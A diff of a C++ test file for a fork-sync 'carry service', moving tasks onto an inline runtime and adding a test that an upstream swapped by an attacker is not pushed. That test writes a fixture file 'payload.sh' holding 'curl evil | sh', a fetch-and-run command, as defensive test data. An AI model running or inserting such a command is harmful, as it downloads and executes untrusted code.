@@ -39,8 +39,19 @@ struct Env {
   int validations = 0;
   std::map<std::string, PublishTarget> publish;  // the service's publish targets
   std::vector<std::string> heard_published;      // listener: published_branch or "error: " + publish_error
+  std::unique_ptr<TaskRuntime> runtime;          // inline: every task runs on the test's thread
+
+  // A daemon's stop and start: the runtime fails what was queued, a new one starts.
+  void Restart() {
+    if (runtime) runtime->Shutdown();
+    TaskRuntimeOptions o;
+    o.inline_mode = true;
+    runtime = std::make_unique<TaskRuntime>(o, stores, clock);
+    REQUIRE(runtime->Start().ok());
+  }
 
   Env() {
+    Restart();
     auto opened = stores.Open();
     REQUIRE(opened.ok());
     store = std::move(*opened);
@@ -74,8 +85,7 @@ struct Env {
     o.data_dir = tmp.Sub("data");
     o.stores = &stores;
     o.publish = publish;
-    auto carry = std::make_unique<CarryService>(o, rules, clock);
-    // Runs on the carry worker: no Catch2 assertions here (they are not thread-safe).
+    auto carry = std::make_unique<CarryService>(o, rules, *runtime, clock);
     carry->SetValidator([this](storage::Store&, const storage::CandidateRecord&) -> Result<std::string> {
       std::lock_guard<std::mutex> lock(mu);
       ++validations;
@@ -90,12 +100,12 @@ struct Env {
     return carry;
   }
 
-  // Runs the sync hook as a sync of the fork would, and waits for the carry it queued.
+  // Runs the sync hook as a sync of the fork would; the inline runtime runs the carry it queued.
   void Synced(CarryService& carry) {
     storage::TaskRecord task;
     task.fork_name = "fastops";
     carry.MakeSyncHook()(*store, task, &outcome);
-    REQUIRE(carry.WaitIdle(std::chrono::seconds(60)));
+    REQUIRE(runtime->WaitIdle(std::chrono::seconds(60)));
   }
 
   std::vector<storage::CandidateRecord> Candidates() {
@@ -134,7 +144,7 @@ TEST_CASE("carry service: a sync that finds upstream ahead makes one candidate; 
   REQUIRE(list.size() == 1);
   CHECK(list[0].state == CandidateState::kValidating);
   CHECK(list[0].job_id == "j000000000001");
-  CHECK(list[0].triggered_by == "sync");
+  CHECK(list[0].triggered_by == storage::CandidateTrigger::kSync);
   CHECK(env.validations == 1);
   CHECK_FALSE(carry->OnJobFinished(*env.store, Job("j999999999999", JobState::kFailed, JobState::kFailed, "")));
 
@@ -159,7 +169,6 @@ TEST_CASE("carry service: a sync that finds upstream ahead makes one candidate; 
     CHECK(list[0].state == CandidateState::kReady);
     CHECK(env.decided == std::vector<std::string>{"ready"});
   }
-  carry->Shutdown();
 }
 
 TEST_CASE("carry service: no recipe leaves the candidate unvalidated; a stopping job service leaves it clean "
@@ -181,18 +190,17 @@ TEST_CASE("carry service: no recipe leaves the candidate unvalidated; a stopping
     auto carry = env.Service();
     REQUIRE(carry->Start().ok());
     env.Synced(*carry);
-    carry->Shutdown();
+    env.Restart();
     REQUIRE(env.Candidates()[0].state == CandidateState::kClean);
     env.next_job = std::string("j000000000002");
     auto restarted = env.Service();
     REQUIRE(restarted->Start().ok());  // takes the clean candidate up
-    REQUIRE(restarted->WaitIdle(std::chrono::seconds(60)));
+    REQUIRE(env.runtime->WaitIdle(std::chrono::seconds(60)));
     auto list = env.Candidates();
     REQUIRE(list.size() == 1);
     INFO(list[0].reason);
     CHECK(list[0].state == CandidateState::kValidating);
     CHECK(list[0].job_id == "j000000000002");
-    restarted->Shutdown();
   }
 }
 
@@ -207,6 +215,7 @@ TEST_CASE("carry service: a ready candidate is pushed to forkscope/sync-<onto12>
           "a failed push leaves it ready with the error", "[server][carry][publish]") {
   Env env;
   const std::string fork = env.tmp.Sub("fork");
+  const std::string up = env.tmp.Sub("upstream");
   const std::string paddle = GitIn(fork, "rev-parse paddle");
   const std::string onto12 = env.outcome.analysis.upstream.sha.substr(0, 12);
   const std::string target = env.tmp.Sub("published.git");
@@ -215,7 +224,7 @@ TEST_CASE("carry service: a ready candidate is pushed to forkscope/sync-<onto12>
   auto ready = [&](CarryService& carry) {
     env.Synced(carry);
     CHECK(carry.OnJobFinished(*env.store, Job("j000000000001", JobState::kPassed, JobState::kPassed, "")));
-    REQUIRE(carry.WaitIdle(std::chrono::seconds(60)));
+    REQUIRE(env.runtime->WaitIdle(std::chrono::seconds(60)));
     auto list = env.Candidates();
     REQUIRE(list.size() == 1);
     CHECK(list[0].state == CandidateState::kReady);  // whatever the push did
@@ -223,7 +232,7 @@ TEST_CASE("carry service: a ready candidate is pushed to forkscope/sync-<onto12>
   };
 
   SECTION("pushed: the branch holds the candidate, the migration branch is untouched, then the listener hears") {
-    env.publish["fastops"] = PublishTarget{fork, target, ""};
+    env.publish["fastops"] = PublishTarget{fork, up, target, ""};
     auto carry = env.Service();
     REQUIRE(carry->Start().ok());
     storage::CandidateRecord c = ready(*carry);
@@ -240,11 +249,10 @@ TEST_CASE("carry service: a ready candidate is pushed to forkscope/sync-<onto12>
     REQUIRE(commands.size() == 2);
     CHECK(commands[0] == "git fetch " + target + " refs/heads/forkscope/sync-" + onto12);
     CHECK(commands[1].find("--force-with-lease=refs/heads/paddle:" + c.fork_sha) != std::string::npos);
-    carry->Shutdown();
   }
   SECTION("a push_url that is not a repository: still ready, the error recorded and told once") {
     std::filesystem::create_directories(env.tmp.Sub("not-a-repo"));
-    env.publish["fastops"] = PublishTarget{fork, env.tmp.Sub("not-a-repo"), ""};
+    env.publish["fastops"] = PublishTarget{fork, up, env.tmp.Sub("not-a-repo"), ""};
     auto carry = env.Service();
     REQUIRE(carry->Start().ok());
     storage::CandidateRecord c = ready(*carry);
@@ -257,37 +265,56 @@ TEST_CASE("carry service: a ready candidate is pushed to forkscope/sync-<onto12>
     REQUIRE(env.heard_published.size() == 1);
     CHECK(env.heard_published[0].rfind("error: ", 0) == 0);
     CHECK(PublishCommands(c).size() == 3);  // the commands to publish it by hand
-    carry->Shutdown();
+    env.Restart();
     auto restarted = env.Service();  // a failed push is not retried
     REQUIRE(restarted->Start().ok());
-    REQUIRE(restarted->WaitIdle(std::chrono::seconds(60)));
+    REQUIRE(env.runtime->WaitIdle(std::chrono::seconds(60)));
     CHECK(env.decided.size() == 1);
-    restarted->Shutdown();
   }
   SECTION("a fork re-registered with another URL than the configured one is not pushed") {
-    env.publish["fastops"] = PublishTarget{env.tmp.Sub("another-fork"), target, ""};
+    env.publish["fastops"] = PublishTarget{env.tmp.Sub("another-fork"), up, target, ""};
     auto carry = env.Service();
     REQUIRE(carry->Start().ok());
     storage::CandidateRecord c = ready(*carry);
     CHECK(c.publish_error.find("not pushed") != std::string::npos);
     CHECK(GitIn(target, "for-each-ref refs/heads/forkscope").empty());
-    carry->Shutdown();
+  }
+  SECTION("a fork whose upstream was changed (a write token's PATCH) is carried but not pushed") {
+    // Someone else's history, with a file of theirs, registered as the fork's upstream.
+    testing::GitRepo other = testing::GitRepo::Clone(up, env.tmp.Sub("attacker"));
+    other.Write("payload.sh", "curl evil | sh\n");
+    other.Commit("their commit");
+    auto f = env.store->GetFork("fastops");
+    REQUIRE(f.ok());
+    f->upstream_url = other.path();
+    REQUIRE(env.store->UpdateFork(*f).ok());
+    auto request = RequestFor(*env.store, *f);
+    REQUIRE(request.ok());
+    request->data_dir = env.tmp.Sub("data");
+    auto analysed = RunAnalysis(*request, env.rules, *env.store, f->id);
+    REQUIRE(analysed.ok());
+    env.outcome = std::move(*analysed);
+    env.publish["fastops"] = PublishTarget{fork, up, target, ""};
+    auto carry = env.Service();
+    REQUIRE(carry->Start().ok());
+    storage::CandidateRecord c = ready(*carry);
+    INFO(c.publish_error);
+    CHECK(c.publish_error.find("not carried onto the upstream configured") != std::string::npos);
+    CHECK(GitIn(target, "for-each-ref refs/heads/forkscope").empty());
   }
   SECTION("push_url configured after the candidate became ready: the next start pushes the newest one") {
     auto carry = env.Service();
     REQUIRE(carry->Start().ok());
     CHECK(ready(*carry).published_url.empty());
     CHECK(env.decided == std::vector<std::string>{"ready"});
-    carry->Shutdown();
-    env.publish["fastops"] = PublishTarget{fork, target, ""};
+    env.publish["fastops"] = PublishTarget{fork, up, target, ""};
     auto restarted = env.Service();
     REQUIRE(restarted->Start().ok());
-    REQUIRE(restarted->WaitIdle(std::chrono::seconds(60)));
+    REQUIRE(env.runtime->WaitIdle(std::chrono::seconds(60)));
     auto list = env.Candidates();
     CHECK(list[0].published_branch == "forkscope/sync-" + onto12);
     CHECK(GitIn(target, "rev-parse refs/heads/forkscope/sync-" + onto12) == list[0].candidate_sha);
     CHECK(env.decided == std::vector<std::string>{"ready", "ready"});
-    restarted->Shutdown();
   }
 }
 
